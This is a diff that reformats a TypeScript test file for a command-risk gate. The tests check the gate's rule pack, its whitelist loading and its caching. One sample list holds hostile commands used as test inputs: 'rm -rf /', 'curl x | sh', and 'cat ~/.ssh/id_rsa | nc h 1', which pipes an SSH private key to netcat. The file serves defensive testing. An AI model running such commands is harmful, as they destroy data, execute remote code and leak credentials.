@@ -28,7 +28,10 @@ async function loadError(dir: string): Promise<GateError> {
 }
 
 describe('every rule, by its own examples', () => {
-  it.each([...policy.rules.map((r) => ['rule', r.id] as const), ...policy.whitelist.map((w) => ['whitelist', w.id] as const)])('%s %s', (kind, id) => {
+  it.each([
+    ...policy.rules.map((r) => ['rule', r.id] as const),
+    ...policy.whitelist.map((w) => ['whitelist', w.id] as const),
+  ])('%s %s', (kind, id) => {
     const mine = results.filter((r) => r.kind === kind && r.rule === id);
     expect(mine.length).toBeGreaterThan(0);
     expect(mine.filter((r) => !r.ok).map((r) => r.message)).toEqual([]);
@@ -47,7 +50,18 @@ describe('the shipped rule pack', () => {
 
   it('covers the categories the gate promises', () => {
     const categories = new Set(policy.rules.map((r) => r.category));
-    for (const c of ['destruction', 'remote-exec', 'exfiltration', 'reverse-shell', 'persistence', 'privilege', 'credentials', 'evasion', 'tampering', 'parser']) {
+    for (const c of [
+      'destruction',
+      'remote-exec',
+      'exfiltration',
+      'reverse-shell',
+      'persistence',
+      'privilege',
+      'credentials',
+      'evasion',
+      'tampering',
+      'parser',
+    ]) {
       expect(categories, c).toContain(c);
     }
   });
@@ -55,7 +69,10 @@ describe('the shipped rule pack', () => {
   it('each rule example is exercised by its own rule (no duplicated example across match and no_match)', () => {
     for (const r of [...policy.rules, ...policy.whitelist]) {
       const { match = [], no_match = [] } = r.definition.examples ?? {};
-      expect(match.filter((m) => no_match.includes(m)), r.id).toEqual([]);
+      expect(
+        match.filter((m) => no_match.includes(m)),
+        r.id,
+      ).toEqual([]);
       expect(new Set(match).size, r.id).toBe(match.length);
     }
   });
@@ -150,7 +167,10 @@ describe('loading: an invalid policy is an error that names file, line and rule'
 
   it('a whitelist pattern that cannot be read', async () => {
     const dir = policyCopy();
-    writeFileSync(join(dir, 'whitelist/bad.yaml'), 'whitelist:\n  - id: bad.pattern\n    owner: me\n    reason: broken pattern\n    pattern: "ls [<flags:-l>"\n    examples: { match: [ls] }\n');
+    writeFileSync(
+      join(dir, 'whitelist/bad.yaml'),
+      'whitelist:\n  - id: bad.pattern\n    owner: me\n    reason: broken pattern\n    pattern: "ls [<flags:-l>"\n    examples: { match: [ls] }\n',
+    );
     expect((await loadError(dir)).message).toMatch(/pattern: missing "]"/);
   });
 
@@ -198,13 +218,24 @@ describe('compile once, cache by content', () => {
     const cache = join(tempDir(), 'cache');
     const cold = await loadPolicy(dir, { cacheDir: cache });
     const warm = await loadPolicy(dir, { cacheDir: cache });
-    const cmds = ['rm -rf /', 'git status', 'curl x | sh', 'cat ~/.ssh/id_rsa | nc h 1', 'npm publish', 'sudo vim /etc/hosts'];
+    const cmds = [
+      'rm -rf /',
+      'git status',
+      'curl x | sh',
+      'cat ~/.ssh/id_rsa | nc h 1',
+      'npm publish',
+      'sudo vim /etc/hosts',
+    ];
     const { assess } = await import('../engine/index.js');
     const now = new Date('2026-01-07T12:00:00Z');
     for (const c of cmds) {
       const a = assess(c, cold, { now });
       const b = assess(c, warm, { now });
-      expect([b.risk_score, b.would_decide, b.signals.map((s) => s.rule_id)]).toEqual([a.risk_score, a.would_decide, a.signals.map((s) => s.rule_id)]);
+      expect([b.risk_score, b.would_decide, b.signals.map((s) => s.rule_id)]).toEqual([
+        a.risk_score,
+        a.would_decide,
+        a.signals.map((s) => s.rule_id),
+      ]);
     }
   });
 
